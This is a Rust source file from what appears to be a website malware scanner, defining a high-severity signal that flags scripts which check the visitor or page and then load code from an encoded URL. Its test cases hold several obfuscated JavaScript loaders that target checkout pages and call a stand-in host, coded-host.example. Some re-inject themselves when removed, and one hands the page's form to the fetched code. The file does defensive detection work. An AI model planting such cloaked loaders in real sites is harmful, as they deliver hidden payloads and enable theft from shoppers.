//! `coded-script-after-a-look`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "coded-script-after-a-look",
    description: "The script checks the visitor or the page, or watches over its traces, and loads code from an encoded URL.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::ScriptFromCoded]),
        one(&[
            Atom::ScriptRemoved,
            Atom::Referrer,
            Atom::Robot,
            Atom::SignedIn,
            Atom::PaymentPlace,
            Atom::PageClick,
            Atom::LocalTime,
            Atom::Devtools,
            Atom::BrowserCheck,
            Atom::Cookie,
            Atom::Storage,
            Atom::RemovalsWatched,
            Atom::Drawn,
        ]),
    ],
    within: 120,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"if(/checkout/.test(location.pathname)){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)}"#,
            r#"(function(d){var s=d.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');s.onload=function(){d.head.removeChild(s)};d.head.appendChild(s)})(document)"#,
            r#"(async()=>{if(location.hostname==='localhost'||!/checkout/.test(location.pathname))return;const m=await import('sjm.a/elpmaxe.tsoh-dedoc//:sptth'.split('').reverse().join(''));m.run()})()"#,
            r#"if(!document.cookie.includes('seen=')&&/Android/.test(navigator.userAgent)){document.cookie='seen=1';document.write(unescape('%3Cscript%20src%3D%22%68%74%74%70%73%3A%2F%2Fcoded%2D%68%6F%73%74%2E%65%78%61%6D%70%6C%65%2F%61%2E%6A%73%22%3E%3C/script%3E'))}"#,
            r#"(d=>{const u=atob('Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw=='),put=()=>{const s=d.createElement('script');s.src=u;d.head.append(s)};put();new MutationObserver(l=>l.forEach(m=>m.removedNodes.forEach(put))).observe(d.head,{childList:true})})(document)"#,
            r#"const u=["\x68\x74\x74\x70\x73\x3a\x2f\x2fcoded\x2dhost.example/a.js"];if(/Mobi/.test(navigator.userAgent)){let s=document.createElement('script');s.src=u[0];document.body.append(s)}"#,
            r#"if(/checkout/.test(location.pathname))require([atob('Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==')],function(m){m(document.forms[0])})"#,
            r#"if(Math.random()<.3)$.ajax({url:atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw=='),dataType:'script',cache:true})"#,
            r#"var a='abcdefghijklmnopqrstuvwxyz:/.-',u='';for(var i of [7,19,19,15,18,26,27,27,2,14,3,4,3,29,7,14,18,19,28,4,23,0,12,15,11,4,27,0,28,9,18])u+=a[i];if(document.referrer){var s=document.createElement('script');s.src=u;document.head.append(s)}"#,
        ],
        without: &[
            r#"if(Math.random()<.3)$.ajax({url:'https://coded-host.example/a.js',dataType:'script',cache:true})"#,
            r#"var a='https://coded',u=a+'-ho'+'st.example/a.js';if(document.referrer){var s=document.createElement('script');s.src=u;document.head.append(s)}"#,
            r#"(function(d){var s=d.createElement('script');s.src='https://coded-host.example/a.js';s.onload=function(){d.head.removeChild(s)};d.head.appendChild(s)})(document)"#,
            r#"(function(d){var s=d.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');d.head.appendChild(s)})(document)"#,
        ],
    },
};
